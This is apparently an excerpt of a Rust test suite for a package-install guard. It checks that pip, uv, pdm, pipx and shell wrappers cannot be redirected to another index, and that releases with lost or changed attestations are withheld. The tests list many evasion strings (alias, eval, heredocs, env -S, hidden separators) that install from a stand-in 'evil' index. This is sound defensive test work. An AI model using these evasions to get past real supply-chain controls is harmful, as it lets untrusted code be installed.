    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn the_command_is_told_of_the_guard_and_of_nobody_else() {
    let set = Set::new();
    let other = "https://index.example/simple/";
    let inherited = [
        "PIP_EXTRA_INDEX_URL",
        "PIP_FIND_LINKS",
        "PIP_PYPI_URL",
        "PIP_PROXY",
        "pip_index_url",
        "UV_INDEX",
        "UV_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "UV_EXTRA_INDEX_URL",
        "UV_FIND_LINKS",
        "UV_CONFIG_FILE",
        "PDM_PYPI_URL",
        "PIPENV_PYPI_MIRROR",
    ];
    let named: Vec<_> = inherited.iter().map(|name| (*name, other)).collect();
    let more = [
        ("PIP_ISOLATED", "1"),
        ("UV_TORCH_BACKEND", "auto"),
        ("UV_CACHE_DIR", "/cache"),
        ("PIP_CACHE_DIR", "/cache"),
    ];
    let seen = variables(&set, &[&named[..], &more[..]].concat());
    assert!(!seen.contains("index.example"), "{seen}");
    let of = |name: &str| {
        let line = seen
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")));
        line.map(str::to_owned)
    };
    let index = of("PIP_INDEX_URL").unwrap();
    assert!(index.starts_with("http://127.0.0.1:"), "{index}");
    for same in [
        "PIP_EXTRA_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "UV_INDEX_URL",
        "PDM_PYPI_URL",
    ] {
        assert_eq!(of(same).as_ref(), Some(&index), "{same}");
    }
    for gone in [
        "UV_INDEX",
        "UV_EXTRA_INDEX_URL",
        "UV_TORCH_BACKEND",
        "PIP_ISOLATED",
        "PIP_PROXY",
    ] {
        assert_eq!(of(gone), None, "{gone}");
    }
    // What other indexes gave may lie in the installers' own caches.
    assert_eq!(of("PIP_NO_CACHE_DIR").as_deref(), Some("1"));
    assert_ne!(of("UV_CACHE_DIR").as_deref(), Some("/cache"));
}

#[test]
fn a_command_that_does_not_mind_a_refusal_has_failed() {
    let set = Set::new();
    let python = installers().join("new/bin/python");
    let script = "import os, re, urllib.request\nfrom urllib.parse import urljoin\nindex = os.environ['PIP_INDEX_URL'] + 'bad/'\npage = urllib.request.urlopen(index).read().decode()\ntry:\n    urllib.request.urlopen(urljoin(index, re.search('href=\"([^\"#]+)', page).group(1)))\nexcept urllib.error.HTTPError as refused:\n    print(refused.code)\n";
    let got = set.guard(&[], &[python.to_str().unwrap(), "-c", script]);
    assert_eq!((got.stdout.trim(), got.code), ("403", 1), "{}", got.whole());
    let observed = set.guard(&["--observe"], &[python.to_str().unwrap(), "-c", script]);
    assert_eq!(
        (observed.stdout.trim(), observed.code),
        ("", 0),
        "{}",
        observed.whole()
    );
}

#[test]
fn a_project_that_lets_more_through_is_told_of() {
    let set = Set::new();
    let python = installers().join("new/bin/python");
    let run = |flags: &[&str]| set.guard(flags, &[python.to_str().unwrap(), "-c", "pass"]);
    set.sandbox
        .write("hognose.toml", "[gateway]\nfail-on = \"high\"\n");
    let got = run(&[]);
    assert!(!got.stderr.contains("lets more through"), "{}", got.stderr);
    set.sandbox.write(
        "hognose.toml",
        "[policy]\nmin-age = \"1h\"\n[policy.rules]\nHOG-STATUS-quarantined = \"off\"\n[gateway]\nmode = \"observe\"\nallow = [\"bad\"]\n",
    );
    let got = run(&[]);
    let expected = "lets more through than the guard does by itself: mode = \"observe\", a shorter min-age, a list of what is let in, HOG-STATUS-quarantined (--no-config does without it)";
    assert!(got.stderr.contains(expected), "{}", got.stderr);
    assert!(!run(&["--no-config"]).stderr.contains("lets more through"));
}

#[test]
fn what_lies_on_disk_does_not_lead_past_the_guard() {
    let set = Set::new();
    let other = "https://index.example/evil-1.0-py3-none-any.whl";
    let needs = format!("Requires-Dist: evil @ {other}\n");
    let local = archives::wheel("local", "1.0", &[("local.py", String::new())], &needs);
    set.sandbox.write("local-1.0-py3-none-any.whl", local);
    let separators = ["\u{b}", "\u{c}", "\u{1d}", "\u{85}", "\u{2028}", "\r"];
    for (at, end) in separators.iter().enumerate() {
        let text = format!("good # a comment{end}--index-url https://index.example/simple/\n");
        set.sandbox.write(&format!("odd-{at}.txt"), text);
    }
    let pylock = format!(
        "lock-version = \"1.0\"\ncreated-by = \"x\"\n[[packages]]\nname = \"evil\"\nversion = \"1.0\"\n[[packages.wheels]]\nurl = \"{other}\"\nhashes = {{ sha256 = \"{}\" }}\n",
        "0".repeat(64)
    );
    set.sandbox.write("pylock.toml", pylock);
    set.sandbox.write("e.env", "PIP_NO_INDEX=1\n");
    set.sandbox.write(
        "na/pyproject.toml",
        "[project]\nname = \"na\"\nversion = \"1\"\ndependencies = [\"nb\"]\n[tool.uv.sources]\nnb = { path = \"../nb\" }\n",
    );
    set.sandbox.write(
        "nb/pyproject.toml",
        format!("[project]\nname = \"nb\"\nversion = \"1\"\ndependencies = [\"evil\"]\n[tool.uv.sources]\nevil = {{ url = \"{other}\" }}\n"),
    );
    let python = installers().join("new/bin/python");
    let python = python.to_str().unwrap();
    let uv = installers().join("new/bin/uv");
    let uv = uv.to_str().unwrap();
    let mut commands = vec![
        vec![
            python,
            "-m",
            "pip",
            "install",
            "./local-1.0-py3-none-any.whl",
        ],
        vec![uv, "pip", "install", "-r", "pylock.toml"],
        vec![uv, "pip", "install", "./na"],
        vec![
            uv,
            "run",
            "--no-project",
            "--env-file",
            "e.env",
            "pip",
            "install",
            "good",
        ],
        vec!["env", "-C", "na", uv, "sync"],
    ];
    let files: Vec<String> = (0..separators.len())
        .map(|at| format!("odd-{at}.txt"))
        .collect();
    commands.extend(
        files
            .iter()
            .map(|file| vec![python, "-m", "pip", "install", "-r", file]),
    );
    for command in commands {
        let refused = set.guard(&[], &command);
        assert_eq!(refused.code, 2, "{command:?}: {}", refused.whole());
    }
}

/// Everything that is refused before it starts.
fn refuses(set: &Set, commands: &[&[&str]]) {
    for command in commands {
        let mut command = command.to_vec();
        let tool = installers().join("more/bin").join(command[0]);
        if tool.is_file() {
            command[0] = tool.to_str().unwrap();
        }
        let refused = set.guard(&[], &command);
        assert_eq!(refused.code, 2, "{command:?}: {}", refused.whole());
        assert!(refused.stderr.contains("error: "), "{}", refused.whole());
    }
}

#[test]
fn pipx_is_led_nowhere_else() {
    let set = Set::new();
    let package = |package: &str, arguments: &str| {
        format!(
            "{{\"pipx_spec_version\":\"0.1\",\"venvs\":{{\"good\":{{\"metadata\":{{\"main_package\":{{\"package\":\"good\",\"package_or_url\":\"{package}\",\"pip_args\":[{arguments}]}},\"injected_packages\":{{}}}}}}}}}}"
        )
    };
    let index = "\"--ind=https://index.example/simple/\"";
    set.sandbox.write("index.json", package("good", index));
    set.sandbox.write(
        "address.json",
        package("git+https://index.example/good", ""),
    );
    set.sandbox.write("m.toml", "");
    refuses(
        &set,
        &[
            &["pipx", "install-all", "index.json"],
            &["pipx", "install-all", "--force", "address.json"],
            &["pipx", "manifest", "sync", "m.toml"],
            &["pipx", "install", "good", "--lock", "pylock.toml"],
            &[
                "pipx",
                "install",
                "good",
                "--preinstall",
                "x@https://index.example/x.whl",
            ],
            &[
                "pipx",
                "install",
                "good",
                "--pip-args",
                "\"--index-url\" https://index.example/",
            ],
            &[
                "pipx",
                "install",
                "good",
                "--pip-args=--default-index https://index.example/",
            ],
            &[
                "pipx",
                "install",
                "good",
                "--pip-a=--ext=https://index.example/",
            ],
            &[
                "pipx",
                "install",
                "good",
                "--sp=git+https://index.example/good",
            ],
            &[
                "pipx",
                "run",
                "--spec",
                "git+https://index.example/good",
                "good",
            ],
            &[
                "pipx",
                "run",
                "--with",
                "x@https://index.example/x.whl",
                "good",
            ],
            &[
                "pipx",
                "runpip",
                "good",
                "install",
                "--find-links",
                "https://index.example/",
                "x",
            ],
            &["pipx", "runpip", "good", "--isolated", "install", "x"],
            &[
                "pipx",
                "runpip",
                "good",
                "install -i https://index.example/ x",
            ],
            &["pipx", "run", "poetry", "install"],
        ],
    );
}

#[test]
fn scripts_of_projects_are_led_nowhere_else() {
    let set = Set::new();
    let python = installers().join("more/bin/python");
    let go = format!(
        "{} -m pip install --quiet --target installed good",
        python.display()
    );
    let scripts = format!(
        "{PROJECT}[tool.pdm.scripts]\ngo.shell = \"{go}\"\nelse.cmd = \"{go}\"\nelse.env = {{ PIP_INDEX_URL = \"https://index.example/simple/\" }}\nfile.cmd = \"{go}\"\nfile.env_file = \"bad.env\"\nnamed = \"pip install --ext https://index.example/ good\"\nmany.composite = [\"go\", \"named\"]\nmoved.shell = \"cd other; pip install good\"\n"
    );
    set.sandbox.write("pyproject.toml", scripts);
    set.sandbox
        .write("bad.env", "PIP_INDEX_URL=https://index.example/simple/\n");
    set.sandbox.write(
        "Pipfile",
        "[scripts]\nnamed = \"PIP_INDEX_URL=https://index.example/ pip install good\"\n",
    );
    refuses(
        &set,
        &[
            &["pdm", "run", "else"],
            &["pdm", "else"],
            &["pdm", "run", "file"],
            &["pdm", "run", "named"],
            &["pdm", "run", "many"],
            &["pdm", "run", "moved"],
            &[
                "pdm",
                "run",
                "--env",
                "PIP_INDEX_URL=https://index.example/",
                "go",
            ],
            &["pdm", "run", "--env-f=bad.env", "go"],
            &["pdm", "run", "--working-dir", "other", "go"],
            &["pdm", "--pro", "other", "run", "go"],
            &["pdm", "-c", "other.toml", "add", "good"],
            &[
                "pdm",
                "self",
                "add",
                "--pip-args=--ind=https://index.example/",
                "good",
            ],
            &[
                "pdm",
                "plugin",
                "add",
                "--pip-a",
                "'-i' https://index.example/",
                "good",
            ],
            &["pdm", "add", "git+https://index.example/good"],
            &["pipenv", "run", "named"],
            &[
                "pipenv",
                "run",
                "PIP_INDEX_URL=https://index.example/",
                "pip",
                "install",
                "good",
            ],
            &["pipenv", "run", "A=1", "poetry", "install"],
            &["sh", "-c", "cd other; pip install good"],
            &["bash", "-ec", "(cd other && python3 -m pip install good)"],
            &[
                "timeout",
                "60",
                "sh",
                "-c",
                "export PIP_INDEX_URL=x; pip install good",
            ],
            &["sh", "-c", "pip install -r bad.env"],
            &["sh", "-c", "set -a; . ./bad.env; pip install good"],
            &[
                "sh",
                "-c",
                "$(which pip) install -i https://index.example/ good",
            ],
            &[
                "sh",
                "-c",
                "python3 - <<X\nimport os\nos.system('pip install -i https://index.example/ good')\nX",
            ],
            &["sh", "-c", "echo \"$(poetry install)\""],
            &["sh", "-c", "sh -c 'pip install --iso good'"],
        ],
    );
    let got = set.more(&["pdm", "run", "go"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
    std::fs::remove_dir_all(set.sandbox.work().join("installed")).unwrap();
    let text = format!("echo ready && {go} >log.txt; ls installed # cd");
    let got = set.guard(&[], &["sh", "-c", &text]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
}

#[test]
fn tox_and_pipenv_run_commands_before_the_guard() {
    let set = Set::new();
    set.sandbox.write(
        "tox.ini",
        "[tox]\nno_package = true\n[testenv]\nskip_install = true\n",
    );
    let got = set.more(&[
        "tox", "exec", "-q", "-e", "py", "--", "python", "-m", "pip", "install", "good",
    ]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
    // uv's variables end at tox.
    refuses(
        &set,
        &[
            &[
                "tox", "exec", "-e", "py", "--", "uv", "pip", "install", "good",
            ],
            &[
                "tox", "exec", "-e", "py", "--", "pip", "install", "--iso", "good",
            ],
        ],
    );
    set.sandbox.write("Pipfile", "[packages]\n");
    set.sandbox
        .write(".env", "PIP_INDEX_URL=https://index.example/simple/\n");
    let got = set.more(&["pipenv", "run", "python", "-m", "pip", "install", "good"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
}

/// What bash would make of it is either seen, refused, or said not to be seen.
#[test]
fn texts_for_a_shell_are_judged_by_what_it_does() {
    let set = Set::new();
    let evil = "https://index.example/simple/";
    set.sandbox.write("other/x", "");
    set.sandbox
        .write("bad.env", format!("export PIP_INDEX_URL={evil}\n"));
    set.sandbox
        .write("bad.sh", format!("pip install -i {evil} x\n"));
    set.sandbox.write("plain.sh", "echo hello\n");
    set.sandbox.write("Makefile", "all:\n\techo made\n");
    for text in [
        "alias p='pip install -i EVIL'\np x",
        "alias p=pip\np install -i EVIL x",
        "bash <<END\npip install -i EVIL x\nEND",
        "cat <<'END' | sh\npip install -i EVIL x\nEND",
        "eval 'cd other && pip install x'",
        "eval \"eval 'cd other'\"; pip install x",
        "eval \"PIP_INDEX_URL=EVIL pip install x\"",
        "A='pip install -i EVIL'; $A x",
        "read PIP_INDEX_URL < f; export PIP_INDEX_URL; pip install x",
        "for PIP_INDEX_URL in EVIL; do pip install x; done",
        "printf -v PIP_INDEX_URL %s EVIL; pip install x",
        ": ${PIP_INDEX_URL:=EVIL} ${UV_INDEX=EVIL}; pip install x",
        "pip install -r <(echo -i EVIL)",
        "source <(echo export PIP_INDEX_URL=EVIL); pip install x",
        ". ./bad.env; pip install x",
        "echo x | xargs pip install",
        "env -S'pip install x'",
        "env -vS 'pip install x'",
        "env --split-string='PIP_INDEX_URL=EVIL pip install x'",
        "find . -maxdepth 0 -execdir pip install x ';'",
        "find . -exec pip install -i EVIL {} +",
        "pip install {-i,EVIL} x",
        "trap 'pip install -i EVIL x' EXIT",
        "function f { cd other; }; f; pip install x",
        "f() { pip install \"$@\"; }; f -i EVIL x",
        "pip() { command pip -i EVIL \"$@\"; }; pip install x",
        "coproc pip install -i EVIL x",
    ] {
        let text = text.replace("EVIL", evil);
        let got = set.guard(&[], &["bash", "-c", &text]);
        assert_eq!(got.code, 2, "{text}: {}", got.whole());
    }
    let said = |command: &[&str], what: &str| {
        let got = set.guard(&[], command);
        assert!(got.stderr.contains(what), "{command:?}: {}", got.whole());
        assert_ne!(got.code, 2, "{command:?}: {}", got.whole());
    };
    said(&["make"], "what make starts is not looked at");
    said(
        &["bash", "-c", "make all"],
        "what make starts is not looked at",
    );
    said(&["bash", "bad.sh"], "in bad.sh: pip names the index");
    let reads = ". \"$HOME/nothing.env\"; echo pip";
    said(&["bash", "-c", reads], "nothing.env sets is not known");
    for text in [
        "echo one | xargs echo two",
        "find . -name pip -exec ls {} +",
        "env -S 'ls -l'",
        "for name in a b; do echo $name; done",
        "alias ll='ls -l'; eval 'cd other && ls'",
        "read -r LINE < plain.sh; echo \"${LINE:=none} ${X,,}\"",
        "f() { cd other; ls; }; f",
        "bash plain.sh",
    ] {
        let got = set.guard(&[], &["bash", "-c", text]);
        assert_eq!(got.code, 0, "{text}: {}", got.whole());
        assert!(!got.stderr.contains("warning"), "{text}: {}", got.whole());
    }
}

#[test]
fn only_what_needs_an_index_is_said_to_have_asked_nothing() {
    let set = Set::new();
    let python = installers().join("new/bin/python");
    let python = python.to_str().unwrap();
    for quiet in [
        &[python, "-c", "pass"][..],
        &[python, "-m", "pip", "list"],
        &["sh", "-c", "ls"],
    ] {
        let got = set.guard(&[], quiet);
        assert!(!got.stderr.contains("for nothing"), "{}", got.whole());
    }
    // A page is a question too, though nothing was got and nothing withheld.
    let got = set.pip("new", &["absent"]);
    assert_ne!(got.code, 0);
    assert!(!got.stderr.contains("for nothing"), "{}", got.whole());
    let got = set.guard(&[], &[python, "-m", "pip", "install", "pip"]);
    assert!(got.stderr.contains("for nothing"), "{}", got.whole());
}

/// What an index serves as the provenance of a real release; none where the shared data is not there, which CI refuses.
fn provenance(name: &str) -> Option<String> {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/provenance");
    match std::fs::read_to_string(folder.join("pypi").join(name)) {
        Ok(text) => Some(text),
        Err(error) if std::env::var_os("CI").is_none() => {
            eprintln!("skipped: {name}: {error}");
            None
        }
        Err(error) => panic!("{name}: {error}"),
    }
}

/// Releases of a project: one of long ago, one whose sdist is attested as announced, and what came after it.
fn attested(set: &Set, project: &str, sdist: (&str, &str), yanked: &str, newer: Option<&str>) {
    let module = project.replace('-', "_");
    let file = |version: &str| format!("{module}-{version}-py3-none-any.whl");
    let mut page = String::new();
    for version in ["0.0.1"].into_iter().chain(newer) {
        let bytes = wheel(&module, version, "X = 1\n");
        let digest = common::upstream::hex(&bytes);
        let file = file(version);
        page.push_str(&format!(
            "<a href=\"/files/{file}#sha256={digest}\" {OLD}>{file}</a>\n"
        ));
        let path = format!("/files/{file}");
        set.upstream
            .put(&path, common::upstream::Answer::file(bytes));
    }
    let (name, sha256) = sdist;
    page.push_str(&format!(
        "<a href=\"/files/{name}#sha256={sha256}\" {OLD} {yanked} data-provenance=\"/p/{name}\">{name}</a>\n"
    ));
    set.upstream.put(
        &format!("/simple/{project}/"),
        common::upstream::Answer::html(page),
    );
}

#[test]
fn a_release_that_ceases_to_be_attested_is_withheld() {
    let set = Set::new();
    set.sandbox
        .write("hognose.toml", "[gateway]\nfresh = \"1s\"\n");
    let name = "pypi_attestations-0.0.19.tar.gz";
    let sha256 = "9bb1add04b1b4e182be6b0b80931593f7a291eb49d69b4fd728a5d4cbcdc4bd3";
    let Some(real) = provenance(&format!("{name}.provenance")) else {
        return;
    };
    set.upstream
        .put(&format!("/p/{name}"), common::upstream::Answer::html(real));
    let project = "pypi-attestations";
    let with = |yanked: &str, newer| attested(&set, project, (name, sha256), yanked, newer);
    let install = || set.pip("new", &["--no-deps", "--no-cache-dir", project]);
    // Nothing is known yet: what has no attestation is got as ever.
    with("", Some("0.0.20"));
    let got = install();
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(set.has("pypi_attestations-0.0.20.dist-info"));
    std::fs::remove_dir_all(set.sandbox.work().join("installed")).unwrap();
    // The attested release is looked at; its bytes, which this index does not have, matter to nobody here.
    with("", None);
    let got = set.pip("new", &["--no-deps", "pypi-attestations==0.0.19"]);
    assert_ne!(got.code, 0, "{}", got.whole());
    with("data-yanked=\"\"", Some("0.0.20"));
    let got = install();
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(
        set.has("pypi_attestations-0.0.1.dist-info"),
        "{}",
        got.whole()
    );
    let told = words(&got);
    assert!(
        told.contains("pypi-attestations 0.0.20, got 0.0.1: HOG-PROV-lost: ")
            && told.contains("0.0.19 was attested"),
        "{told}"
    );
    let pinned = set.pip("old", &["--no-deps", "pypi-attestations==0.0.20"]);
    assert!(
        pinned.stderr.contains("HOG-PROV-lost"),
        "{}",
        pinned.whole()
    );
    // Whoever knows why it is so lets it in.
    let waiver = "[gateway]\nfresh = \"1s\"\n[[waiver]]\nrule = \"HOG-PROV-lost\"\npackage = \"pypi-attestations\"\nreason = \"announced\"\nexpires = 2027-01-31\n";
    set.sandbox.write("hognose.toml", waiver);
    std::fs::remove_dir_all(set.sandbox.work().join("installed")).unwrap();
    let got = install();
    assert!(
        set.has("pypi_attestations-0.0.20.dist-info"),
        "{}",
        got.whole()
    );
    // An index that says nothing of attestations loses none.
    set.sandbox
        .write("hognose.toml", "[gateway]\nfresh = \"1s\"\n");
    std::fs::remove_dir_all(set.sandbox.work().join("installed")).unwrap();
    let page = format!(
        "<a href=\"/files/pypi_attestations-0.0.20-py3-none-any.whl#sha256={}\" {OLD}>pypi_attestations-0.0.20-py3-none-any.whl</a>",
        common::upstream::hex(&wheel("pypi_attestations", "0.0.20", "X = 1\n"))
    );
    set.upstream.put(
        "/simple/pypi-attestations/",
        common::upstream::Answer::html(page),
    );
    let got = install();
    assert!(
        set.has("pypi_attestations-0.0.20.dist-info"),
        "{}",
        got.whole()
    );
}

#[test]
fn a_release_of_another_publisher_is_withheld() {
    use hognose_store::{Opening, Options, SqliteStore, Store as _};
    let set = Set::new();
    set.sandbox
        .write("hognose.toml", "[gateway]\nfresh = \"1s\"\n");
    let name = "pep740_sampleproject-1.0.0.tar.gz";
    let sha256 = "6cdd4a1a0a49aeef47265e7bf8ec1667257b397d34d731dc7b7af349deca1cd8";
    let Some(real) = provenance("pep740-sampleproject-1.0.0.tar.gz.provenance") else {
        return;
    };
    set.upstream
        .put(&format!("/p/{name}"), common::upstream::Answer::html(real));
    attested(&set, "pep740-sampleproject", (name, sha256), "", None);
    // What a gateway remembers that has seen an earlier release.
    let remembered = "version = 1\n[[package]]\nname = \"pep740-sampleproject\"\nversion = \"0.9\"\nattested = \"yes\"\n[[package.publisher]]\nkind = \"GitHub\"\nissuer = \"https://token.actions.githubusercontent.com\"\nrepository = \"https://github.com/acme/sampleproject\"\nrepository-id = \"7\"\n[[package.file]]\nname = \"pep740_sampleproject-0.9.tar.gz\"\nattested = \"yes\"\n";
    let state = set.sandbox.work();
    let state = state.parent().unwrap().join(".local/state/hognose");
    std::fs::create_dir_all(&state).unwrap();
    let path = state.join("gateway.db");
    let store = SqliteStore::open(&path, Opening::Create, Options::default()).unwrap();
    assert!(
        store
            .remember("published", "pep740-sampleproject", remembered, 0, 1)
            .unwrap()
    );
    drop(store);
    let got = set.pip("new", &["--no-deps", "pep740-sampleproject"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(
        set.has("pep740_sampleproject-0.0.1.dist-info"),
        "{}",
        got.whole()
    );
    let told = words(&got);
    assert!(
        told.contains("pep740-sampleproject 1.0.0, got 0.0.1: HOG-PROV-changed: ")
            && told.contains("gitlab"),
        "{told}"
    );
    // It is not taken for the usual publisher by being looked at.
    let again = set.pip("old", &["--no-deps", "pep740-sampleproject==1.0.0"]);
    assert!(
        again.stderr.contains("HOG-PROV-changed"),
        "{}",
        again.whole()
    );
}
